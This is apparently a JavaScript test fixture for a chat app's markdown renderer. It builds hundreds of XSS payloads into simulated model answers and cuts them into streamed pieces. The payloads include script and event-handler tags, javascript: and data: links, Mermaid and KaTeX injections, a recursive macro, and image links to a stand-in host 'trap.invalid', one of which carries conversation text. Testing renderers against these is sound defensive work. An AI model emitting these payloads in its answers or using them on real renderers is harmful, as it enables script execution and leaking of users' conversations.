// What attackers write into text that a model repeats: markup, links, images, and their disguises. Both the tests in
// Chromium and those in the real window show all of it.

const TRAP = "https://trap.invalid";

const SCRIPTS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://trap.invalid/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)//",
  "<IMG SRC=\"https://trap.invalid/i.png\">",
  "<img srcset=\"https://trap.invalid/s.png 1x\">",
  "<picture><source srcset=https://trap.invalid/p.png><img></picture>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><image href=https://trap.invalid/v.png /></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></use></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=https://trap.invalid/o></object>",
  "<embed src=https://trap.invalid/e>",
  "<base href=https://trap.invalid/>",
  "<meta http-equiv=refresh content=\"0;url=https://trap.invalid\">",
  "<link rel=stylesheet href=https://trap.invalid/c.css>",
  "<link rel=prefetch href=https://trap.invalid/pre>",
  "<link rel=dns-prefetch href=//trap.invalid>",
  "<form action=https://trap.invalid><input name=a><button>go</button></form>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=https://trap.invalid/v.mp4 autoplay onloadstart=alert(1)></video>",
  "<audio src=https://trap.invalid/a.mp3 autoplay></audio>",
  "<style>@import url(https://trap.invalid/s.css);*{background:url(https://trap.invalid/b)}</style>",
  "<div style=\"background:url(https://trap.invalid/d)\">x</div>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=\"https://trap.invalid\" ping=https://trap.invalid/ping>x</a>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></x>",
];

const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java&#115;cript:alert(1)",
  "javascript&colon;alert(1)",
  "java%0ascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "file:///etc/passwd",
  "smb://trap.invalid/share",
  "blob:https://trap.invalid/1",
  "tauri://localhost/x",
  "ipc://localhost/control",
  "http://trap.invalid/plain",
  `${TRAP}/secret?q=conversation`,
  "//trap.invalid/protocol-relative",
  "\\\\trap.invalid\\share",
  "https:trap.invalid",
  "https://trap.invalid\\@good.example/",
  "https://good.example@trap.invalid/",
];

const LINKS = [
  (url) => `[press](${url})`,
  (url) => `[press](<${url}> "a title")`,
  (url) => `![seen](${url})`,
  (url) => `![seen](${url} "x\\" onerror=alert(1)")`,
  (url) => `[![seen](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `[ref]\n\n[ref]: ${url}`,
  (url) => `![ref]\n\n[ref]: ${url}`,
];

const SHAPES = [
  (html) => html,
  (html) => `text ${html} text`,
  (html) => `> ${html}`,
  (html) => `- ${html}`,
  (html) => `| a |\n|---|\n| ${html.replaceAll("|", "")} |`,
  (html) => `**${html}**`,
];

const ODD = [
  "```\"><img src=x onerror=alert(1)>\ncode\n```",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"] --> B; click A \"javascript:alert(1)\"\n```",
  "```svg\n<svg onload=alert(1)>\n```",
  "$$\\href{javascript:alert(1)}{x}$$",
  "$\\url{https://trap.invalid}$ \\htmlData{onclick=alert(1)}{x}",
  "![a\"onerror=alert(1)](x)",
  "![](https://trap.invalid/a.png)![](https://trap.invalid/b.png)",
  "[a](https://good.example \"title\nonmouseover=alert(1)\")",
  "https://trap.invalid/autolink and www.trap.invalid and me@trap.invalid",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)> https://trap.invalid/foot",
  "- [x] <img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<img src=x onerror=\nalert(1)\n>",
  "\\<img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "| `<script>` | ![x](https://trap.invalid/t.png) |\n|---|---|\n| <b onclick=alert(1)>b</b> | [x](javascript:alert(1)) |",
  "<p>\n\n![x](https://trap.invalid/in-html.png)\n\n</p>",
  "<div>\n<img src=https://trap.invalid/1.png>\n\n[x](javascript:alert(1))\n</div>",
  "[\u202egnp.exe](https://trap.invalid/\u202egnp.exe)",
];

const fence = (kind, text) => `\`\`\`${kind}\n${text}\n\`\`\``;

// Mermaid: labels, links, styles, directives, front matter, icons and images, as its holes were found
const DIAGRAMS = [
  'graph TD; A["<img src=x onerror=alert(1)>"] --> B["<script>alert(1)</script>"]',
  'graph TD; A --> B\n click A "javascript:alert(1)" "tip"',
  'graph TD; A --> B\n click A href "https://trap.invalid/click" _blank',
  'graph TD; A --> B\n click A call alert(1)',
  'graph TD; A["`<b onclick=alert(1)>x</b>`"] --> B',
  "graph TD; A --> B\n style A fill:url(https://trap.invalid/fill)",
  "graph TD; A:::x --> B\n classDef x fill:#fff,background:url(https://trap.invalid/class)",
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD; A["<img src=https://trap.invalid/l.png onerror=alert(1)>"] --> B',
  '%%{init: {"themeCSS": "* { background: url(https://trap.invalid/theme) } @import url(https://trap.invalid/import)"}}%%\ngraph TD; A --> B',
  '%%{init: {"fontFamily": "x; } </style><img src=x onerror=alert(1)>"}}%%\ngraph TD; A --> B',
  '%%{init: {"themeVariables": {"primaryColor": "url(https://trap.invalid/v)"}}}%%\ngraph TD; A --> B',
  '---\nconfig:\n  securityLevel: loose\n  dompurifyConfig: {ADD_TAGS: [script]}\n---\ngraph TD; A["<script>alert(1)</script>"] --> B',
  'graph TD\n A@{ img: "https://trap.invalid/a.png", label: "x" }',
  'graph TD\n A@{ "\\x69mg": "https://trap.invalid/escaped.png" }',
  'C4Context\n Person(a, "A", "x", $sprite="https://trap.invalid/sprite.png")',
  'graph TD\n A@{ icon: "fa:x\\"><img src=x onerror=alert(1)>" }',
  'graph TD; A["$$\\\\href{javascript:alert(1)}{x}$$"] --> B',
  'sequenceDiagram\n A->>B: <img src=x onerror=alert(1)>\n link A: go @ javascript:alert(1)',
  'sequenceDiagram\n participant A as <svg onload=alert(1)>\n A->>A: x',
  'classDiagram\n class A["<img src=x onerror=alert(1)>"]\n link A "javascript:alert(1)" "x"\n callback A "alert"',
  'gantt\n title <img src=x onerror=alert(1)>\n section S\n T :a, 2026-01-01, 3d\n click a href "https://trap.invalid/g"',
  'pie title <script>alert(1)</script>\n "<img src=x onerror=alert(1)>" : 3',
  'mindmap\n root((<img src=x onerror=alert(1)>))',
  'stateDiagram-v2\n [*] --> A : <iframe src=javascript:alert(1)>',
  'erDiagram\n A ||--o{ B : "<img src=x onerror=alert(1)>"',
  'journey\n title <img src=x onerror=alert(1)>\n section S\n x: 5: A',
  'timeline\n title <svg onload=alert(1)>\n 2026 : x',
];

// KaTeX: commands that make links, attributes and images, or that grow without end
const FORMULAS = [
  "\\href{javascript:alert(1)}{x}",
  "\\href{https://trap.invalid/href}{x}",
  "\\url{https://trap.invalid/url}",
  "\\htmlData{onclick=alert(1)}{x}",
  "\\htmlStyle{background:url(https://trap.invalid/style)}{x}",
  "\\htmlClass{a}{x}\\htmlId{b}{y}",
  "\\includegraphics{https://trap.invalid/g.png}",
  "\\text{<img src=x onerror=alert(1)>}",
  "\\unicode{<script>alert(1)</script>}",
  "\\def\\a{\\a\\a}\\a",
  "\\rule{9999em}{9999em}",
  "\\color{url(https://trap.invalid/c)}x",
  "x\\tag{<svg onload=alert(1)>}",
];

/** A few hundred payloads. @type {readonly string[]} */
export const PAYLOADS = [
  ...SCRIPTS.flatMap((html) => SHAPES.map((shape) => shape(html))),
  ...SCHEMES.flatMap((url) => LINKS.map((link) => link(url))),
  ...ODD,
  ...DIAGRAMS.map((text) => fence("mermaid", text)),
  ...FORMULAS.flatMap((text) => [`a $${text}$ b`, `\\[${text}\\]`, `$$\n${text}\n$$`, fence("math", text)]),
];

const TOGETHER = 24;

/** The payloads as answers of a model, a couple of dozen in each. @type {readonly string[]} */
export const ANSWERS = Array.from({ length: Math.ceil(PAYLOADS.length / TOGETHER) }, (_, at) =>
  PAYLOADS.slice(at * TOGETHER, (at + 1) * TOGETHER).join("\n\n"),
);

/**
 * Cuts a text into pieces of uneven length, the same for the same seed.
 * @param {string} text
 * @param {number} seed
 * @returns {string[]}
 */
export function pieces(text, seed) {
  const out = [];
  let state = seed;
  for (let at = 0; at < text.length; ) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    const size = 1 + (state % 9);
    out.push(text.slice(at, at + size));
    at += size;
  }
  return out;
}
